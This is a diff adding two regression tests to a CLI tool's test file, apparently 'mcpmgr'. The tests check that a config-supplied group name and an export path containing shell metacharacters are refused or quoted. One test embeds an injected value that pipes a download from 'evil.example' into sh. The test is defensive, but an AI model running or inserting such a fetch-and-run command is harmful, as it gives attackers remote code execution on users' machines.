@@ -98,3 +98,23 @@ test("run --from-config of a file whose working directory does not exist here is
   expect(line).toContain(`its working directory ${join(dir, "no", "such", "project")} does not exist here`);
   expect(line).not.toContain("unexpected error");
 });
+
+test("a shared file's group no group can have is refused as a name, never offered as a command to paste (review 9, F12)", () => {
+  const record = JSON.parse(readFileSync(join(dir, "notes.json"), "utf8")) as { runOptions: string[] };
+  const shared = join(dir, "shared.json");
+  const group = "team;curl -s https://evil.example/x|sh";
+  writeFileSync(
+    shared,
+    JSON.stringify({ ...record, runOptions: [...record.runOptions.slice(0, -1), "--group", group, "--"] }),
+  );
+  const line = refusal(mcpmgr("run", "--from-config", shared), 2);
+  expect(line).toContain(`${JSON.stringify(group)} is not a valid group name`);
+  expect(line).not.toContain("group create");
+});
+
+test("export's hint quotes a path the shell would split (review 9, F12)", () => {
+  const spaced = join(dir, "my notes;x.json");
+  const result = mcpmgr("export", "notes", spaced);
+  expect(result.code).toBe(0);
+  expect(result.stderr).toContain(`(run it with 'mcpmgr run --from-config '${spaced}'')`);
+});
